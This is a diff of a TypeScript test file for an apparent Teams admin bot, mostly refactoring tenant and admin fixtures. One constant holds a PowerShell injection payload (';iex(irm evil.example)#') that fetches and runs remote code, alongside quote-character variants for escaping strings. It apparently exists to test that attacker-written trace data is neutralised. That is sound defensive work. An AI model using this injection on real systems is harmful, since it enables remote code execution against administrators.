@@ -10,18 +10,14 @@ import { SUMMARY_COLUMNS } from '../../bot/src/admin/trace/trace-formats';
 import { READINESS_CSV_COLUMNS } from '../../bot/src/admin/readiness/render-csv';
 import { cardTexts } from '../../bot/test/support/core-harness';
 import { csvRecords } from '../../bot/test/support/csv-text';
-import { CONTOSO_CMDLETS, CONTOSO_DNS_ZONE, repoRoot } from '../../bot/test/support/fixtures';
+import { repoRoot } from '../../bot/test/support/fixtures';
 import { literalsOf } from '../../bot/test/support/powershell-tokens';
 import { startServer, type RunningServer } from '../../bot/test/support/server-harness';
 import { startFileServer, type FileServer } from './support/file-server';
 import { startLocalTeams, type LocalTeams } from './support/local-teams';
-import { startMicrosoftTenant, type MicrosoftTenant } from './support/microsoft-tenant';
-import { cardIn, fileAttachment, teamsTurn, type Activity } from './support/teams-turn';
+import { startContosoTenant, TENANT, type MicrosoftTenant } from './support/microsoft-tenant';
+import { admin, ADMIN, cardIn, fileAttachment, teamsTurn, type Activity } from './support/teams-turn';
 
-const ADMIN = '11111111-1111-4111-8111-111111111111';
-const TENANT = '44444444-4444-4444-8444-444444444444';
-const APP = '55555555-5555-4555-8555-555555555555';
-const admin = { id: '29:sec', aadObjectId: ADMIN, name: 'Sec' };
 const PAYLOAD = ';iex(irm evil.example)#';
 const QUOTES = ["'", '\u2018', '\u2019', '\u201A', '\u201B'];
 /** One attacker-written sender address per quote character, each sending from its own /24. */
@@ -44,12 +40,7 @@ let tenant: MicrosoftTenant;
 
 beforeAll(async () => {
   files = await startFileServer({ 'trace.csv': { type: 'text/csv', body: traceCsv } });
-  tenant = await startMicrosoftTenant({
-    tenantId: TENANT,
-    clientId: APP,
-    cmdlets: CONTOSO_CMDLETS,
-    dnsZone: CONTOSO_DNS_ZONE,
-  });
+  tenant = await startContosoTenant();
   teams = await startLocalTeams();
   server = await startServer(
     {
